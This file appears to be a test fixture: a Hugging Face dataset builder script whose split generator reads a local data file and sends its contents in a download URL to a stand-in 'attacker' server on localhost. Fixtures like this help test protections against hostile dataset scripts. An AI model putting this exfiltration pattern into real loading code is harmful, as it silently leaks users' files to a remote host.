"""Writes what it read of the user's files into the URL that it asks for."""

import os

import datasets

from .attacker import WHERE


class SendAway(datasets.GeneratorBasedBuilder):
    """Sends."""

    VERSION = datasets.Version("1.0.0")

    def _info(self):
        return datasets.DatasetInfo(features=datasets.Features({"a": datasets.Value("int32")}))

    def _split_generators(self, dl_manager):
        with open(os.path.join(dl_manager.manual_dir, "data.txt")) as file:
            dl_manager.download(f"http://127.0.0.1:{WHERE['port']}/{file.read().strip()}")
        return [datasets.SplitGenerator(name="train", gen_kwargs={})]

    def _generate_examples(self):
        yield 0, {"a": 0}
